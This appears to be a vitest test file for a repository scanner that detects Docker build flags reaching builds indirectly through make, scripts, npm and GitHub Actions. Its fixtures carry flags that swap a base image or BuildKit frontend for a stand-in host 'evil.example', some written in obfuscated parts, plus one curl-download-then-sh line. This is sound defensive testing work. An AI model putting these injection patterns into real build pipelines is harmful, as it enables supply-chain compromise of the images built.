import { describe, expect, test } from 'vitest';
import { findBuilds } from '../../../src/core/builds/find-builds.js';
import { treeOf } from '../../support/build-rows.js';

const FLAG = '--build-arg BASE=evil.example/x:1';
const FILES = {
  Dockerfile: 'ARG BASE=debian\nFROM $BASE\n',
  Makefile: 'include more.mk\nimage:\n\tdocker build . $(BUILD_FLAGS)\n',
  'more.mk': 'other:\n\tdocker build . $(OTHER_FLAGS)\n',
  'run.sh': 'docker build "$@" .\n',
  'ci/build.py': 'import os\nos.system("docker build . " + os.environ["BUILD_FLAGS"])\n',
  'ci/lint.sh': 'shellcheck *.sh\n',
  'package.json': '{ "scripts": { "image": "docker build ." } }',
  'js/action.yml': 'name: x\nruns: { using: node20, main: x.js }\n',
  'js/x.js': 'exec("docker build . " + process.env.BUILD_FLAGS)\n',
  'own/action.yml': `inputs: { words: {} }\nruns:\n  using: composite\n  steps:\n    - { shell: bash, run: "make image BUILD_FLAGS='$\{{ inputs.words }}'" }\n`,
};

const expression = (text: string): string => `\${{ ${text} }}`;
const run = (script: string, more = ''): string => `{ run: ${JSON.stringify(script)}${more} }`;

/** What is said of the steps of a job, and how many builds they have. */
function read(steps: readonly string[], around = '', others: Readonly<Record<string, string>> = {}) {
  const all = steps.map((step) => `      - ${step}\n`).join('');
  const flow = `on: push\njobs:\n  j:\n    runs-on: ubuntu-24.04\n${around}    steps:\n${all}`;
  const files = { ...FILES, ...others, '.github/workflows/a.yml': flow };
  const { builds, problems } = findBuilds(treeOf(files), new Set(['workflow']));
  return { said: problems.map(({ message }) => message), builds };
}

const isGiven = (words: string): string =>
  `A step gives ${words}, and what it builds with that is not judged`;

describe('flags of a build for a program that is not read', () => {
  test.each([
    [`make image BUILD_FLAGS="${FLAG}"`, 'make'],
    [`make image BUILD_FLAGS=${FLAG.replace(' ', '=')}`, 'make'],
    [`BUILD_FLAGS="${FLAG}" make image`, 'make'],
    [`sudo -E make -C . image BUILD_FLAGS='${FLAG}'`, 'make'],
    [`./run.sh ${FLAG}`, './run.sh'],
    [`bash run.sh ${FLAG}`, 'bash'],
    [`if ! ./run.sh ${FLAG}; then exit 1; fi`, './run.sh'],
    [`A=(${FLAG}); ./run.sh "\${A[@]}"`, './run.sh'],
    [`python3 ci/build.py ${FLAG}`, 'python3'],
    [`npm run image -- ${FLAG}`, 'npm'],
    [`task image -- ${FLAG}`, 'task'],
    [`just image '${FLAG}'`, 'just'],
    [`xargs ./run.sh <<< '${FLAG}'`, 'xargs'],
    [`curl -fsSL https://get.example/x.sh -o x.sh; sh x.sh ${FLAG}`, 'sh'],
    [`docker run -v $PWD:/w acme/image ${FLAG}`, 'docker'],
  ])('%s', (script, program) => {
    const { said } = read([run(script)]);

    expect(said).toEqual([isGiven(`${program} ${FLAG.replace(' ', script.includes('arg=') ? '=' : ' ')}`)]);
  });

  test.each([
    '--build-context debian=docker-image://evil.example/x:1',
    '--build-arg BUILDKIT_SYNTAX=evil.example/x:1',
    '--sbom=generator=evil.example/x:1',
    '--attest type=sbom,generator=evil.example/x:1',
    '--set *.args.BASE=evil.example/x:1',
    '--set web.args.BASE=evil.example/x:1',
    '--set web.contexts.debian=docker-image://evil.example/x:1',
    '--set web.dockerfile=bad.df',
  ])('of every kind: %s', (flag) => {
    expect(read([run(`./run.sh '${flag}'`)]).said).toEqual([isGiven(`./run.sh ${flag}`)]);
  });

  test.each(['"--build"-arg', String.raw`--bu\ild-arg`, "'--build-''arg'", '$A-arg', '$A$B', `\${P}arg`])(
    'written in parts: %s',
    (flag) => {
      const script = `A=--build; B=-arg\nP=--build-\n./run.sh ${flag} BASE=evil.example/x:1`;
      expect(read([run(script)]).said).toEqual([isGiven(`./run.sh ${FLAG}`)]);
    },
  );

  test('a value of a chart is no argument', () => {
    expect(read([run('helm upgrade a b --set web.args.level=debug --set web.args[0]=x')]).said).toEqual([]);
  });

  test.each([
    ['of the step', '', [run('make image', `, env: { BUILD_FLAGS: "${FLAG}" }`)]],
    ['of the job', `    env: { BUILD_FLAGS: "${FLAG}" }\n`, [run('make image')]],
    [
      'that a matrix gives',
      `    strategy: { matrix: { f: ["${FLAG}"] } }\n    env: { BUILD_FLAGS: "${expression('matrix.f')}" }\n`,
      [run('make image')],
    ],
    ['that a step before writes', '', [run(`echo "BUILD_FLAGS=${FLAG}" >> $GITHUB_ENV`), run('make image')]],
    ['that the script exports', '', [run(`export BUILD_FLAGS="${FLAG}"\nmake image`)]],
    [
      'that the script makes of another',
      '',
      [run('export BUILD_FLAGS="$A"\nmake', `, env: { A: "${FLAG}" }`)],
    ],
  ])('in a variable %s', (_, around, steps) => {
    expect(read(steps, around).said).toEqual([isGiven(`Makefile BUILD_FLAGS with ${FLAG}`)]);
  });

  test.each([
    ['a program names it', 'python3 ci/build.py', 'BUILD_FLAGS', 'ci/build.py'],
    ['a file that another includes names it', 'make other', 'OTHER_FLAGS', 'more.mk'],
  ])('in a variable, where %s', (_, script, name, file) => {
    expect(read([run(script)], `    env: { ${name}: "${FLAG}" }\n`).said).toEqual([
      isGiven(`${file} ${name} with ${FLAG}`),
    ]);
  });

  test('in a frontend by itself', () => {
    const others = { Makefile: 'image:\n\tdocker build --build-arg BUILDKIT_SYNTAX .\n' };
    const env = '    env: { BUILDKIT_SYNTAX: evil.example/x:1 }\n';

    expect(read([run('make image')], env, others).said).toEqual([
      isGiven('Makefile BUILDKIT_SYNTAX with evil.example/x:1'),
    ]);
    expect(read([run('make image BUILDKIT_SYNTAX=evil.example/x:1')]).said).toEqual([
      isGiven('make BUILDKIT_SYNTAX=evil.example/x:1'),
    ]);
  });

  test('for an action of the repository', () => {
    expect(read([`{ uses: ./own, with: { words: "${FLAG}" } }`]).said).toEqual([isGiven(`make ${FLAG}`)]);
    expect(read([`{ uses: ./js, env: { BUILD_FLAGS: "${FLAG}" } }`]).said).toEqual([
      isGiven(`js/x.js BUILD_FLAGS with ${FLAG}`),
    ]);
  });

  test.each([
    `echo "${FLAG}"`,
    `# ${FLAG}\nmake image`,
    `[ "$X" = "${FLAG}" ] || make image`,
    `grep -q -- '${FLAG}' run.sh`,
    `git commit -m 'build with ${FLAG}'`,
    `echo "used ${FLAG}" >> $GITHUB_STEP_SUMMARY`,
    `docker build ${FLAG} .`,
    `A="${FLAG}"; docker build $A .; make lint`,
    `export A="${FLAG}"; docker build $A .; ci/lint.sh`,
    `A=(); A+=(${FLAG}); docker build "\${A[@]}" .`,
    `set -- ${FLAG}; docker build "$@" .`,
    `b() { docker build "$@" .; }; b ${FLAG}`,
    `declare -x A="${FLAG}"; docker build $A .`,
    `printf -v A '%s' '${FLAG}'; docker build $A .`,
    `read -r A <<< '${FLAG}'; docker build $A .`,
    `for a in ${FLAG}; do docker build $a .; done`,
    `case "$1" in ${FLAG.split(' ')[0]}) docker build .;; esac`,
    'make image VERSION=1 BUILD_ARG=x',
  ])('not in what is only said, or read: %s', (script) => {
    expect(read([run(script)]).said).toEqual([]);
  });

  test('not in a variable that no program names', () => {
    const env = `    env: { FLAGS: "${FLAG}" }\n`;

    expect(read([run('docker build $FLAGS .'), run('ci/lint.sh'), run('npm ci')], env).said).toEqual([]);
  });

  test('in what a script prints for another program', () => {
    expect(read([run(`echo ${FLAG} | xargs ./run.sh`)]).said).toEqual([
      `A step hands on ${FLAG}, and what it builds with that is not judged`,
    ]);
  });

  test.each([
    [`{ uses: a/b@v1, with: { options: "${FLAG}" } }`, ['What a/b is given as options is not read'], []],
    [
      `{ uses: a/b@v1, with: { build-options: "${FLAG}" } }`,
      [],
      ['Images that a/b builds are not read, and only Dockerfiles with usual names are judged'],
    ],
  ])('for an action of another repository: %s', (step, problems, warnings) => {
    const { builds, said } = read([step]);

    expect([builds.map(({ problem }) => problem), said]).toEqual([problems, warnings]);
  });

  test('with what is not known of them', () => {
    const { said } = read([run(`make image BUILD_FLAGS="--build-arg V=${expression('github.sha')} --load"`)]);

    expect(said).toEqual([isGiven(`make --build-arg V=${expression('github.sha')} --load`)]);
  });
});
